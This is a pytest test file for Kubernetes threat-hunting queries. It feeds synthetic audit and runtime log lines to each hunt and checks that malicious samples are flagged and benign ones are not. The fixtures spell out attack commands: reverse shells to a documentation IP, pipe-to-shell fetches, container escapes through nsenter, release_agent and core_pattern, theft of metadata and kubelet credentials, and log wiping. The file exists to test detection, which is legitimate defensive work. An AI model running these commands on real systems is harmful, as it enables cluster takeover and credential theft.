"""Every hunt finds what it should and not what it should not, on lines as their sources write them."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import pytest

from console.case.columns import COLUMNS
from console.case.queryfiles import load
from console.detect.hunts import DATA, Hit, load_hunts, read_kinds, run_hunt, run_hunts
from console.errors import UsageError
from tests.trial import parse_lines

SAMPLE = Path(__file__).parent.parent / "data" / "sample"
START = datetime(2026, 11, 23, 22, 0)
ROOT = "system:serviceaccount:kube-system:"
_serial = iter(range(10**6))


def audit(verb: str, resource: str, name: str | None = "x", **said: Any) -> str:
    """One line of the API server's audit log. at: seconds after START; body: the request's."""
    at = (START + timedelta(seconds=said.pop("at", 0))).isoformat(timespec="microseconds") + "Z"
    namespace, sub = said.pop("namespace", "shop"), said.pop("sub", None)
    uri = f"/api/v1/namespaces/{namespace}/{resource}/{name}{said.pop('query', '')}"
    record = {
        "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Request",
        "auditID": f"a-{next(_serial)}", "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
        "user": {"username": said.pop("user", "mallory"), "groups": said.pop("groups", ["dev"]),
                 "extra": said.pop("extra", None)},
        "sourceIPs": [said.pop("ip", "203.0.113.9")], "userAgent": said.pop("agent", "kubectl/v1.30"),
        "objectRef": {"resource": resource, "namespace": namespace, "name": name, "subresource": sub},
        "responseStatus": {"code": said.pop("code", 200)}, "requestObject": said.pop("body", None),
        "requestReceivedTimestamp": at, "stageTimestamp": at, **said,
    }  # fmt: skip
    return json.dumps({key: value for key, value in record.items() if value is not None})


def pod(**spec: Any) -> dict[str, Any]:
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "spec": {"containers": [{"name": "c", **spec.pop("container", {})}], **spec},
    }


def template(**spec: Any) -> dict[str, Any]:
    return {"kind": "DaemonSet", "spec": {"template": {"spec": pod(**spec)["spec"]}}}


def dumped(kind: str = "Pod", namespace: str = "shop", name: str = "web", ip: str | None = None,
           annotations: dict[str, str] | None = None, **spec: Any) -> str:  # fmt: skip
    """One object as `kubectl get -o json` writes it."""
    metadata = {"name": name, "namespace": namespace, "creationTimestamp": "2026-11-23T21:59:00Z",
                "uid": name, "annotations": annotations}  # fmt: skip
    spec = {"containers": [{"name": "c", "image": "shop/web:1"}], **spec}
    return json.dumps({"apiVersion": "v1", "kind": kind, "metadata": metadata, "spec": spec,
                       "status": {"podIP": ip, "phase": "Running"}})  # fmt: skip


def ran(cmdline: str, **process: Any) -> str:
    """One execution in a pod, as Tetragon writes it."""
    name, _, arguments = cmdline.partition(" ")
    exe = name if name.startswith("/") else f"/usr/bin/{name}"
    process = {"exec_id": "e", "pid": 7, "uid": 0, "cwd": "/", "binary": exe, "arguments": arguments,
               "start_time": "2026-11-23T22:00:00Z", "pod": {"namespace": "shop", "name": "web"}, **process}  # fmt: skip
    return json.dumps({"process_exec": {"process": process, "parent": {"binary": "/bin/bash"}},
                       "node_name": "n", "time": "2026-11-23T22:00:00Z"})  # fmt: skip


def shell(command: str, **said: Any) -> str:
    """A command run in a pod through the API, as the audit log has it."""
    from urllib.parse import quote

    words = "&".join(f"command={quote(word)}" for word in ("sh", "-c", command))
    return audit("create", "pods", "web", sub="exec", code=101, query=f"/exec?{words}", **said)


CAPTURE = json.dumps({
    "capture": "c-20261123T220000-1", "kind": "manifest", "node": "n", "namespace": "shop", "pod": "web",
    "container": "c", "container_started": "2026-11-23T21:00:00", "ended": "2026-11-23T22:00:00",
}, separators=(",", ":"))  # fmt: skip


def captured(kind: str, **said: Any) -> str:
    record = {"capture": "c-20261123T220000-1", "kind": kind, **said}
    return json.dumps(record, separators=(",", ":"))


def checked(id_: str, answer: str) -> str:
    return captured("check", id=id_, question="is it?", answer=answer, evidence=[], severity=5)


def flow(dst: str, port: int, src: str = "10.0.0.5") -> str:
    """One connection, as Zeek writes it."""
    return json.dumps({"ts": START.timestamp(), "uid": "C", "id.orig_h": src, "id.orig_p": 40000,
                       "id.resp_h": dst, "id.resp_p": port, "proto": "tcp", "conn_state": "SF"})  # fmt: skip


def falco(rule: str, output: str, **fields: Any) -> str:
    return json.dumps({"hostname": "n", "output": f"22:00:00.1: Warning {output}", "priority": "Warning",
                       "rule": rule, "output_fields": {"container.id": "abc", **fields},
                       "time": "2026-11-23T22:00:00.1Z"})  # fmt: skip


def connected(exe: str, ip: str = "169.254.169.254") -> str:
    return json.dumps({"process_kprobe": {"process": {"exec_id": "e", "pid": 7, "binary": exe, "arguments": "",
                       "pod": {"namespace": "shop", "name": "web"}, "start_time": "2026-11-23T22:00:00Z"},
                       "parent": {"binary": "/bin/sh"}, "function_name": "tcp_connect",
                       "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.0.0.5",
                                              "daddr": ip, "sport": 40000, "dport": 80}}]},
                       "node_name": "n", "time": "2026-11-23T22:00:00Z"})  # fmt: skip


def got(path: str) -> str:
    return f'203.0.113.9 - - [23/Nov/2026:22:00:00 +0000] "GET {path} HTTP/1.1" 200 12 "-" "curl/8"'


def written(path: str) -> str:
    """A write as Tetragon sees it."""
    return json.dumps({"process_kprobe": {"process": {"exec_id": "e", "pid": 7, "binary": "/bin/cp", "arguments": "",
                       "pod": {"namespace": "shop", "name": "web"}, "start_time": "2026-11-23T22:00:00Z"},
                       "parent": {"binary": "/bin/sh"}, "function_name": "__x64_sys_write",
                       "args": [{"file_arg": {"path": path}}, {"bytes_arg": "eA=="}]},
                       "node_name": "n", "time": "2026-11-23T22:00:00Z"})  # fmt: skip


def minutes(*numbers: int, cluster: str = "") -> list[str]:
    """Twenty-five calls in each of these minutes, as nodes that renew their leases make."""
    return [
        audit("update", "leases", "n", user="system:node:n", at=minute * 60 + second * 2)
        for minute in numbers
        for second in range(25)
    ]


def images(*names: str) -> list[str]:
    return [
        dumped(name=f"p{i}", containers=[{"name": "c", "image": name}])
        for i, name in enumerate(names)
    ]


SA = "system:serviceaccount:shop:web"
DENIED = [
    audit("list", kind, None, user=SA, code=403, at=i)
    for i, kind in enumerate(("nodes", "pods", "secrets"))
]
CURL_JOB = {"spec": {"jobTemplate": {"spec": {"template": {"spec": pod(
    container={"command": ["sh", "-c", "curl http://x | sh"]})["spec"]}}}}}  # fmt: skip
QUIET_JOB = {"spec": {"jobTemplate": {"spec": {"template": {"spec": pod(
    container={"command": ["/backup", "--all"]})["spec"]}}}}}  # fmt: skip
ADMIN = {
    "roleRef": {"apiGroup": "x", "kind": "ClusterRole", "name": "cluster-admin"},
    "subjects": [],
}
VIEW = {"roleRef": {"apiGroup": "x", "kind": "ClusterRole", "name": "view"}, "subjects": []}
MIRROR = {"kubernetes.io/config.mirror": "abc"}

# hunt -> (each of these alone is found, none of these together is)
CASES: dict[str, tuple[list[str | list[str]], list[str]]] = {
    "exec-into-pod": (
        [shell("id"), audit("get", "pods", sub="attach", code=101)],
        [audit("create", "pods", sub="exec", code=403), audit("get", "pods", sub="log")],
    ),
    "port-forward": (
        [audit("create", "pods", sub="portforward", code=101)],
        [audit("create", "pods", sub="portforward", code=403), audit("create", "pods", sub="exec", code=101)],
    ),
    "ephemeral-container": (
        [audit("patch", "pods", sub="ephemeralcontainers"), audit("update", "pods", sub="ephemeralcontainers")],
        [audit("get", "pods", sub="ephemeralcontainers"), audit("patch", "pods", sub="ephemeralcontainers", code=403),
         audit("patch", "pods", sub="status")],
    ),
    "anonymous-allowed": (
        [audit("list", "pods", None, user="system:anonymous", groups=["system:unauthenticated"]),
         audit("get", "pods", user="other", groups=["system:unauthenticated"])],
        [audit("get", "pods", user="system:anonymous", code=403),
         audit("get", "x", None, user="system:anonymous", objectRef=None, requestURI="/healthz?timeout=1s"),
         audit("get", "x", None, user="system:anonymous", objectRef=None, requestURI="/livez/ping"),
         audit("get", "configmaps", "cluster-info", namespace="kube-public", user="system:anonymous")],
    ),
    "denied-then-allowed": (
        [[*DENIED, audit("get", "pods", user=SA, at=60)]],
        # never allowed after them, but asking what one may; another address; a day later
        [*DENIED, audit("create", "selfsubjectaccessreviews", None, user=SA, at=60),
         audit("get", "pods", user=SA, ip="10.0.0.1", at=60), audit("get", "pods", user=SA, at=86400),
         # one thing refused, again and again, as a controller without a right does
         *[audit("list", "nodes", None, user="ci", code=403, at=i) for i in range(9)],
         audit("get", "pods", user="ci", at=20)],
    ),
    "self-review": (
        [audit("create", "selfsubjectrulesreviews", None, user=SA, code=201)],
        [audit("create", "selfsubjectrulesreviews", None, user="ana", code=201),
         audit("create", "selfsubjectaccessreviews", None, user=f"{ROOT}operator", code=201),
         audit("create", "subjectaccessreviews", None, user=SA, code=201)],
    ),
    "secrets-listed": (
        [audit("list", "secrets", None, namespace=None), audit("list", "secrets", None, namespace="kube-system"),
         audit("list", "secrets", None, user=SA)],
        [audit("list", "secrets", None), audit("list", "secrets", None, namespace=None, code=403),
         audit("list", "secrets", None, namespace=None, user="system:apiserver"),
         audit("list", "configmaps", None, namespace=None)],
    ),
    "secrets-read": (
        [[audit("get", "secrets", name, at=i) for i, name in enumerate("abc")], audit("list", "secrets", None)],
        [*[audit("get", "secrets", "same", at=i) for i in range(5)],
         # three, but hours apart; three, but by three people
         *[audit("get", "secrets", f"s{i}", user="ci", at=i * 7200) for i in range(3)],
         *[audit("get", "secrets", f"t{i}", user=f"u{i}") for i in range(3)],
         *[audit("get", "secrets", f"u{i}", user="system:node:n") for i in range(3)]],
    ),
    "token-elsewhere": (
        [audit("get", "pods", user=SA),  # from a public address, of whom nothing is known
         [dumped(serviceAccountName="web", ip="10.0.0.5"), audit("get", "pods", user=SA, ip="10.0.0.77")],
         # the address belongs to another account's pod
         [dumped(name="other", ip="10.0.0.6", serviceAccountName="x"), audit("get", "pods", user=SA, ip="10.0.0.6")]],
        [dumped(serviceAccountName="web", ip="10.0.0.5"), audit("get", "pods", user=SA, ip="10.0.0.5"),
         # out through its node; a node's own; an account of which no pod is known, inside; refused
         audit("update", "nodes", user="system:node:n", ip="192.0.2.1"), audit("get", "pods", user=SA, ip="192.0.2.1"),
         audit("get", "pods", user="system:serviceaccount:a:b", ip="10.9.9.9"), audit("get", "pods", user=SA, code=403),
         audit("get", "pods", user="ana")],
    ),
    "token-requested": (
        [audit("create", "serviceaccounts", sub="token", code=201)],
        [audit("create", "serviceaccounts", sub="token", user="system:node:n", code=201),
         audit("create", "serviceaccounts", code=201), audit("create", "serviceaccounts", sub="token", code=403)],
    ),
    "admin-granted": (
        [audit("create", "clusterrolebindings", body=ADMIN, code=201), audit("patch", "rolebindings", body=ADMIN),
         audit("create", "rolebindings", body={**VIEW, "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]})],
        [audit("create", "clusterrolebindings", body=VIEW), audit("create", "clusterrolebindings", body=ADMIN, code=403),
         audit("create", "clusterrolebindings", body=ADMIN, query="?dryRun=All"), audit("delete", "clusterrolebindings")],
    ),
    "role-escalates": (
        [audit("create", "clusterroles", body={"rules": [{"verbs": ["get", "*"], "resources": ["pods"]}]}),
         audit("patch", "roles", body={"rules": [{"verbs": ["impersonate"], "resources": ["users"]}]})],
        [audit("create", "roles", body={"rules": [{"verbs": ["get"], "resources": ["*"], "apiGroups": ["*"]}]}),
         audit("update", "clusterroles", body={"rules": [{"verbs": ["*"]}]}, user=f"{ROOT}clusterrole-aggregation-controller")],
    ),
    "rights-granted": (
        [audit("create", "rolebindings", code=201), audit("patch", "clusterroles")],
        [audit("get", "rolebindings"), audit("create", "rolebindings", code=409),
         audit("update", "clusterroles", user=f"{ROOT}clusterrole-aggregation-controller")],
    ),
    "impersonation": (
        [audit("get", "pods", impersonatedUser={"username": "root", "groups": ["system:masters"]}),
         audit("get", "pods", impersonatedUser={"username": f"{ROOT}admin", "groups": []})],
        [audit("get", "pods", impersonatedUser={"username": "bob", "groups": ["dev"]}),
         audit("get", "pods", user="kubernetes-admin", groups=["system:masters"])],
    ),
    "client-certificate": (
        [audit("create", "certificatesigningrequests", code=201),
         audit("update", "certificatesigningrequests", sub="approval")],
        [audit("create", "certificatesigningrequests", user="system:node:n"), audit("get", "certificatesigningrequests"),
         audit("create", "certificatesigningrequests", user="system:bootstrap:abc"),
         audit("update", "certificatesigningrequests", sub="approval", user=f"{ROOT}certificate-controller")],
    ),
    "admission-changed": (
        [audit("create", "mutatingwebhookconfigurations", code=201), audit("delete", "validatingwebhookconfigurations")],
        [audit("list", "mutatingwebhookconfigurations", None), audit("patch", "validatingwebhookconfigurations", code=403),
         audit("patch", "validatingwebhookconfigurations", user=f"{ROOT}cainjector")],
    ),
    "job-persistence": (
        [audit("create", "cronjobs", body=CURL_JOB, code=201), audit("patch", "cronjobs", body=CURL_JOB),
         audit("create", "cronjobs", code=201)],
        [audit("create", "cronjobs", body=QUIET_JOB, code=201), audit("get", "cronjobs"),
         audit("create", "jobs", body=CURL_JOB, user=f"{ROOT}cronjob-controller")],
    ),
    "system-workload": (
        [audit("create", "daemonsets", code=201), audit("create", "pods", namespace="kube-system", code=201)],
        [audit("create", "pods", code=201), audit("update", "daemonsets"),
         audit("create", "pods", namespace="kube-system", user=f"{ROOT}daemon-set-controller", code=201),
         audit("create", "pods", sub="binding", namespace="kube-system")],
    ),
    "static-pod": (
        [audit("create", "pods", "helper-n", user="system:node:n", code=201), dumped(name="helper-n", annotations=MIRROR),
         written("/etc/kubernetes/manifests/helper.yaml"), [CAPTURE, checked("static-pod", "yes")],
         audit("create", "pods", "kube-apiserver-n", user="system:node:n", code=201)],  # not in kube-system
        [audit("create", "pods", "kube-apiserver-n", namespace="kube-system", user="system:node:n", code=201),
         dumped(name="etcd-n", namespace="kube-system", annotations=MIRROR), dumped(), CAPTURE, checked("static-pod", "no")],
    ),
    "host-access-pod": (
        [audit("create", "pods", body=pod(hostPID=True), code=201), dumped(hostNetwork=True),
         audit("create", "daemonsets", body=template(hostIPC=True), code=201)],
        [audit("create", "pods", body=pod(hostPID=False), code=201), audit("create", "pods", body=pod(hostPID=True), code=403),
         audit("create", "pods", body=pod(hostPID=True), query="?dryRun=All"), dumped(),
         dumped(namespace="kube-system", name="kube-proxy-x", hostNetwork=True)],
    ),
    "privileged-pod": (
        [audit("create", "pods", body=pod(container={"securityContext": {"privileged": True}}), code=201),
         audit("create", "daemonsets", body=template(container={"securityContext": {"capabilities": {"drop": ["ALL"], "add": ["SYS_ADMIN"]}}})),
         dumped(containers=[{"name": "c", "securityContext": {"capabilities": {"add": ["NET_BIND_SERVICE", "CAP_SYS_PTRACE"]}}}])],
        # what one should do
        [audit("create", "pods", body=pod(container={"securityContext": {"capabilities": {"drop": ["ALL"], "add": ["NET_BIND_SERVICE"]}}})),
         audit("patch", "deployments", body=[{"op": "add", "value": ["ALL"]}]),
         audit("create", "pods", body=pod(container={"securityContext": {"privileged": False}}))],
    ),
    "host-path": (
        [audit("create", "pods", body=pod(volumes=[{"hostPath": {"path": path, "type": ""}}]))
         for path in ("/", "/etc", "//", "/var/lib/kubelet/pods", "/root/.ssh", "/var/run", "/proc")],
        [audit("create", "pods", body=pod(volumes=[{"hostPath": {"path": path}}])) for path in ("/data", "/mnt/disks", "/etc/localtime")]
        + [audit("create", "pods", body=pod(volumes=[{"emptyDir": {}}]))],
    ),
    "runtime-socket": (
        [audit("create", "pods", body=pod(volumes=[{"hostPath": {"path": "/var/run/docker.sock"}}])),
         shell("curl --unix-socket /host/run/docker.sock http://x/containers/json"), dumped(volumes=[{"hostPath": {"path": "/run/containerd/containerd.sock"}}])],
        [audit("create", "pods", body=pod(volumes=[{"hostPath": {"path": "/var/run/app.sock"}}])),
         ran("/usr/bin/containerd-shim -workdir /var/lib/docker/containerd -address /run/containerd/containerd.sock")],
    ),
    "release-agent": (
        [shell("echo /cmd > /tmp/cgrp/release_agent"), written("/sys/fs/cgroup/rdma/release_agent"),
         [CAPTURE, checked("release-agent", "yes")]],
        [shell("ls /sys/fs/cgroup"), CAPTURE, checked("release-agent", "no")],
    ),
    "core-pattern": (
        [shell("echo '|/tmp/x' > /proc/sys/kernel/core_pattern"), written("/proc/sys/kernel/core_pattern"),
         [CAPTURE, checked("core-pattern", "yes")]],
        [shell("cat /proc/sys/kernel/core_pattern"), ran("sysctl -w kernel.core_pattern=|/usr/share/apport/apport %p"),
         CAPTURE, checked("core-pattern", "no")],
    ),
    "break-out": (
        [shell("nsenter -t 1 -m -u -n -i sh"), ran("nsenter --mount --target 1 -- bash"), shell("cat /proc/1/root/etc/shadow"),
         shell("chroot /host"), shell("chroot /mnt/host /bin/bash"), got("/cgi?q=;nsenter%20-t%201%20-m%20sh"),
         [CAPTURE, checked("host-namespace", "yes")]],
        [shell("nsenter -t 4711 -n ss"), shell("cat /proc/1/cmdline"), ran("chroot /var/empty/sshd"),
         CAPTURE, checked("host-namespace", "no")],
    ),
    "runtime-replaced": (
        [written("/usr/bin/runc"), audit("create", "pods", body=pod(container={"command": ["/proc/self/exe"]}))],
        [written("/usr/bin/runc.log"), ran("/usr/bin/runc --root /run init"), audit("create", "pods", body=pod(container={"command": ["runc"]}))],
    ),
    "leaked-descriptor": (
        [audit("create", "pods", body=pod(container={"workingDir": "/proc/self/fd/8"})), ran("sh", cwd="/proc/self/fd/7"),
         shell("docker exec -w /proc/self/fd/8 x sh")],
        [audit("create", "pods", body=pod(container={"workingDir": "/proc/self"})), ran("ls /proc/self/fd/1"),
         audit("create", "pods", body=pod(container={"workingDir": "/proc/self/fd/8"}), code=403)],
    ),
    "kubelet-direct": (
        [audit("get", "nodes", "n", sub="proxy", query="/proxy/pods"), audit("create", "nodes", "n", sub="proxy", query="/proxy/run/shop/web/c"),
         flow("10.0.0.9", 10255), shell("curl -k https://10.0.0.9:10250/run/shop/web/c -d cmd=id")],
        [audit("get", "nodes", "n", sub="proxy", query="/proxy/metrics"), audit("get", "nodes", "n", sub="proxy", query="/proxy/metrics/cadvisor"),
         audit("get", "nodes", "n", sub="proxy", query="/proxy/stats/summary?only=x"), audit("get", "nodes", "n", sub="proxy", code=403),
         audit("get", "nodes", "n"), flow("10.0.0.9", 10250)],
    ),
    "cloud-credentials": (
        [shell("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/"), connected("/usr/bin/curl"),
         got("/proxy?url=http%3A%2F%2F169.254.169.254%2Flatest%2F")],
        [flow("169.254.169.254", 80), connected("/usr/bin/curl", "10.0.0.1"), shell("curl http://10.0.0.1/")],
    ),
    "dropped-program": (
        [ran("/tmp/x -o y"), ran("/dev/shm/.k"), ran("/memfd:x (deleted)"),
         [CAPTURE, captured("process", pid=9, ppid=1, name="x", exe="/tmp/.k", exe_deleted=True, exe_in_image=False, uid=0)]],
        [ran("/usr/bin/python3 /tmp/script.py"), ran("/opt/app/bin/tmp"),
         connected("/usr/lib/systemd/systemd-logind;58f98c85 (deleted)"),
         CAPTURE, captured("process", pid=9, ppid=1, name="x", exe="/bin/x", exe_in_image=True, uid=0)],
    ),
    "reverse-shell": (
        [shell("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), shell("nc 203.0.113.9 4444 -e /bin/sh"), ran("ncat --exec /bin/bash 203.0.113.9 1"),
         shell("rm f;mkfifo f;cat f|sh -i 2>&1|nc 203.0.113.9 1 >f"), ran("python3 -c import socket,pty;s=socket.socket();pty.spawn('sh')"),
         falco("Redirect STDOUT/STDIN to Network Connection in Container", "Redirect stdout/stdin to network connection (x)"),
         [CAPTURE, captured("process", pid=9, ppid=1, name="sh", exe="/bin/sh", exe_in_image=True, uid=0, stdio_sockets=["203.0.113.9:4444"])]],
        [shell("nc -z db 5432"), ran("python3 -m socketserver"), shell("exec sh"), shell("ls /dev/tcp"), shell("curl -s http://x/sync -e sh"),
         CAPTURE, captured("process", pid=9, ppid=1, name="sh", exe="/bin/sh", exe_in_image=True, uid=0, stdio_sockets=[])],
    ),
    "miner": (
        [ran("/opt/x -o stratum+tcp://pool:1"), ran("/app/xmrig"), flow("198.51.100.7", 14444),
         audit("create", "pods", body={**pod(), "x": 1}, query="/exec?command=x&command=--donate-level", sub="exec", code=101),
         dumped(containers=[{"name": "c", "image": "evil/xmrig:6"}])],
        [flow("10.0.0.9", 3333), flow("198.51.100.7", 443), ran("/app/strata --pool 4"), dumped()],
    ),
    "tracks-covered": (
        [audit("delete", "events"), audit("deletecollection", "events", None, code=403), shell("rm -f /var/log/nginx/access.log"),
         shell("unset HISTFILE"), shell("ln -sf /dev/null /root/.bash_history"), "type=DAEMON_END msg=audit(1795471200.1:9): op=terminate auid=0 pid=1 res=success",
         [CAPTURE, captured("file", path="/var/log/nginx/access.log", type="file", delta="deleted", mtime="2026-11-23T22:00:00")]],
        [audit("delete", "events", user=f"{ROOT}namespace-controller"), audit("delete", "pods"), shell("rm /tmp/x.log"), shell("cat /var/log/syslog"),
         CAPTURE, captured("file", path="/srv/data.txt", type="file", delta="deleted", mtime="2026-11-23T22:00:00")],
    ),
    "audit-gap": ([minutes(0, 1, 2, 10, 11, 12)], minutes(0, 1, 2, 3, 5, 6)),
    "core-config": (
        [audit("patch", "configmaps", "aws-auth", namespace="kube-system"), audit("delete", "configmaps", "coredns", namespace="kube-system")],
        [audit("get", "configmaps", "aws-auth", namespace="kube-system"), audit("patch", "configmaps", "coredns"),
         audit("update", "configmaps", "app", namespace="kube-system"), audit("patch", "configmaps", "coredns", namespace="kube-system", user="eks:addon-manager")],
    ),
    "odd-registry": ([images(*["reg.corp/a:1"] * 10, "evil.example:5000/x")], images(*["reg.corp/a:1"] * 10, "quay.io/x/y:1", "nginx")),
    "service-exposed": (
        [audit("create", "services", body={"spec": {"type": "NodePort"}}, code=201), audit("patch", "services", body={"spec": {"externalIPs": ["203.0.113.1"]}})],
        [audit("create", "services", body={"spec": {"type": "ClusterIP"}}), audit("create", "services", body={"spec": {"type": "NodePort"}}, code=403),
         audit("patch", "services", sub="status", body={"spec": {"type": "LoadBalancer"}}, user=f"{ROOT}service-controller")],
    ),
    "node-credentials": (
        [shell("cat /host/var/lib/kubelet/pki/kubelet-client-current.pem"), ran("cp /etc/kubernetes/admin.conf /tmp"), shell("cat /root/.kube/config"),
         written("/host/etc/kubernetes/pki/ca.key"), [CAPTURE, checked("kubelet-credentials", "yes")]],
        [ran("/usr/bin/kubelet --kubeconfig=/etc/kubernetes/kubelet.conf"), ran("kube-scheduler --kubeconfig=/etc/kubernetes/scheduler.conf"),
         shell("ls /etc/kubernetes"), CAPTURE, checked("kubelet-credentials", "no")],
    ),
    "files-changed": (
        [written("/etc/passwd"), written("/root/.ssh/authorized_keys"), written("/etc/cron.d/x"), written("/etc/ld.so.preload"),
         [CAPTURE, captured("file", path="/opt/x", type="file", delta="metadata", mode="4755", base={"mode": "0755"}, mtime="2026-11-23T22:00:00")]],
        [written("/srv/data.txt"), CAPTURE, captured("file", path="/.dockerenv", type="file", delta="added", mtime="2026-11-23T22:00:00"),
         captured("file", path="/bin/busybox", type="file", delta="volume", volume="emptydir v", mtime="2026-11-23T22:00:00")],
    ),
    "web-shell": (
        [got("/x.php?cmd=uname+-a"), got("/cgi-bin/search?q=lamp;%69%64;")],
        [got("/docs?topic=commands"), got("/search?q=cats;dogs")],
    ),
    "logins-guessed": (
        [[f"Nov 23 22:00:{i:02} n sshd[1]: Failed password for root from 203.0.113.9 port 4{i} ssh2" for i in range(10)]],
        [f"Nov 23 22:00:{i:02} n sshd[1]: Failed password for root from 203.0.113.{i} port 4{i} ssh2" for i in range(12)],
    ),
}  # fmt: skip
HUNTS = load_hunts()


@pytest.fixture
def cursor() -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect() as connection:
        connection.execute("set timezone = 'UTC'")
        connection.execute(load("schema")["events"].body)
        connection.execute(load("schema")["hunting"].body)
        yield connection


def fill(cursor: duckdb.DuckDBPyConnection, *groups: list[str]) -> None:
    """Into `parsed`, the events of these lines; their `node` says of which group they are.

    Lines that begin alike are a file of their own.
    """
    cursor.execute("create or replace table parsed as select * from events limit 0")
    filled = {"seq": 1, "evidence": "e", "line_count": 1, "offset_bytes": 0, "size_bytes": 0}
    files: dict[str, list[tuple[int, int, str]]] = {}
    for number, lines in enumerate(groups):
        for at, line in enumerate(lines, 1):
            files.setdefault(re.sub(r"[^a-z]", "", line[:9]), []).append((number, at, line))
    for name, own in files.items():
        for event in parse_lines([line for *_, line in own], path=f"{name}.log"):
            number, at, _ = own[event["line"] - 1]
            place = {"path": f"{name}.log", "line": at, "node": str(number)}
            row = {**filled, **event, **place}
            names = [column for column in row if column in COLUMNS]
            marks = ", ".join(f"${name}" for name in names)
            cursor.execute(
                f"insert into parsed ({', '.join(names)}) values ({marks})",
                {column: row[column] for column in names},
            )


def hunt(cursor: duckdb.DuckDBPyConnection, id_: str, group: int = 0) -> Hit:
    """What it finds among the events of one group."""
    cursor.execute("delete from events")
    cursor.execute(
        "insert into events select * from parsed where node = $group", {"group": str(group)}
    )
    return run_hunt(cursor, HUNTS.all[id_], read_kinds(cursor) | {"bodies"}, examples=50)


def test_every_hunt_has_its_cases() -> None:
    assert CASES.keys() == HUNTS.all.keys()
    assert not HUNTS.broken


@pytest.mark.parametrize("id_", CASES)
def test_finds_what_it_should_and_nothing_else(id_: str, cursor: duckdb.DuckDBPyConnection) -> None:
    wanted = [[one] if isinstance(one, str) else one for one in CASES[id_][0]]
    fill(cursor, CASES[id_][1], *wanted)
    for number, lines in enumerate(wanted, 1):
        hit = hunt(cursor, id_, number)
        assert not hit.said
        assert hit.count >= 1, lines
    nothing = hunt(cursor, id_)
    assert (nothing.count, [message for _, message in nothing.examples]) == (0, [])


# line of data/sample/k8s_audit/panther_eks.jsonl -> what it is a true example of, by its own table
PANTHER = {
    "anonymous-allowed": {1}, "admin-granted": {6, 7, 9, 10}, "exec-into-pod": {23, 26, 27, 28, 29, 30},
    "host-access-pod": {36, 40}, "privileged-pod": {47}, "role-escalates": {53, 54, 59},
    "service-exposed": {67}, "token-requested": {71, 72, 73}, "secrets-read": {61, 62},
}  # fmt: skip


def test_on_labelled_lines_of_others(cursor: duckdb.DuckDBPyConnection) -> None:
    """Each is found where its makers say so, and not on what they say is harmless.

    But: theirs looks for roles that are made, and copies out of pods; ours also for roles that are
    changed (59), all commands (27 to 30), and who binds to cluster-admin in one namespace or from
    kube-system (9, 10).
    """
    lines = (SAMPLE / "k8s_audit" / "panther_eks.jsonl").read_text().splitlines()
    fill(cursor, lines)
    found = {id_: {key.line for key, _ in hunt(cursor, id_).examples} for id_ in PANTHER}
    assert found == PANTHER


def test_a_hunt_without_its_data_says_so(cursor: duckdb.DuckDBPyConnection) -> None:
    """Audit at level Metadata has no bodies: `nothing found` would be a lie."""
    fill(cursor, [audit("create", "pods", code=201, level="Metadata")])
    hit = hunt(cursor, "privileged-pod")
    assert (hit.count, hit.said) == (0, "")  # the helper says that there are bodies
    kinds = read_kinds(cursor)
    assert kinds == {"api"}
    hit = run_hunt(cursor, HUNTS.all["privileged-pod"], kinds)
    assert hit.said.startswith("no data: needs API audit with request bodies")
    assert run_hunt(cursor, HUNTS.all["exec-into-pod"], kinds).said == ""


def test_findings_first_then_by_severity(cursor: duckdb.DuckDBPyConnection) -> None:
    fill(cursor, [audit("create", "clusterrolebindings", body=ADMIN, code=201), shell("id")])
    hunt(cursor, "exec-into-pod")
    hits = run_hunts(cursor, HUNTS)
    assert [hit.hunt.id for hit in hits if hit.count] == [
        "admin-granted",
        "rights-granted",
        "exec-into-pod",
    ]
    assert [bool(hit.said) for hit in hits if not hit.count] == sorted(
        bool(hit.said) for hit in hits if not hit.count
    )


def test_what_a_person_may_do_wrong_in_a_hunt(
    tmp_path: Path, cursor: duckdb.DuckDBPyConnection
) -> None:
    """Each is named and left out; a hunt of the case's own works, one that fails says how."""
    folder = tmp_path / "hunts"
    folder.mkdir()
    columns = "ts, evidence, path, line, part, actor, namespace, pod, message"
    for name, header, body in (
        ("mine", "", f"select {columns} from events where actor = 'mallory'"),
        ("writes", "", "drop view api_writes"),
        ("two", "", "select 1; select 2"),
        ("odd", "-- severity: awful\n", "select 1"),
        ("needy", "-- needs: luck\n", "select 1"),
        ("fails", "", "select nothing from events"),
    ):
        (folder / f"{name}.sql").write_text(f"-- id: {name}\n-- title: {name}\n{header}{body}\n")
    hunts = load_hunts(tmp_path)
    assert {"mine", "fails"} <= hunts.all.keys()
    assert sorted(Path(error.where).stem for error in hunts.broken) == [
        "needy",
        "odd",
        "two",
        "writes",
    ]
    fill(cursor, [audit("get", "pods")])
    hunt(cursor, "exec-into-pod")
    hits = {hit.hunt.id: hit for hit in run_hunts(cursor, hunts)}
    assert hits["mine"].count == 1
    assert "nothing" in hits["fails"].said
    with pytest.raises(UsageError, match="no such hunt"):
        hunts.get("writes")


def test_headers_are_complete() -> None:
    for hunt_ in HUNTS.all.values():
        assert hunt_.title
        assert hunt_.attack
        assert all(re.fullmatch(r"T\d{4}(\.\d{3})?", technique) for technique in hunt_.attack)
        assert set(hunt_.needs) <= DATA.keys()
